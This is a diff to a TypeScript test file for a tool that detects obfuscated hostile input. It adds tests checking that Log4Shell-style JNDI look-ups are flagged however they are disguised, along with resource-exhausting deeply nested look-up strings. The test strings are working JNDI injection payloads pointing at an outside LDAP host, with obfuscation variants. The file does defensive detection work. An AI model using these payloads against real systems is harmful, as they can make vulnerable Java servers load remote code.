@@ -19,6 +19,31 @@ checkHostileInputs(tool, {
   'many digests': listOf(1_400, digest),
   'many digests in many layers': `%41 &amp; \\x41\\x41\\x41 chr(65)\n${listOf(1_400, digest)}`,
   'many texts': listOf(1_000, harmless),
+  'deep look-ups': `${'${lower:'.repeat(4_000)}${'x'.repeat(28_000)}${'}'.repeat(4_000)}`,
+  'many look-ups': `\${::-x}`.repeat(9_000),
+});
+
+test('a look-up by JNDI is found however other look-ups spell it', () => {
+  const within = (levels: number, text: string) => '${lower:'.repeat(levels) + text + '}'.repeat(levels);
+  const lookup = (letter: string) => `\${${letter}ndi:ldap://198.51.100.7/a}`;
+  for (const letter of [
+    'j',
+    `\${::-j}`,
+    `\${env:NONE:-j}`,
+    `\${upper:j}`,
+    within(11, 'j'),
+    within(98, 'j'),
+  ]) {
+    const { findings, unseen } = tool.analyse(lookup(letter), 0);
+    assert.deepEqual(
+      { ids: findings.map(({ id }) => id), unseen },
+      { ids: ['decode.jndi'], unseen: [] },
+      letter,
+    );
+  }
+  const { findings, unseen } = tool.analyse(lookup(within(150, 'j')), 0);
+  assert.deepEqual({ findings, unseen }, { findings: [], unseen: ['Look-ups nested deeper than 100.'] });
+  assert.deepEqual(tool.analyse(`a } b $ c \${env:HOME} \${`, 0).findings, []);
 });
 
 test('at most five layers are decoded, and the rest is said to be unseen', () => {
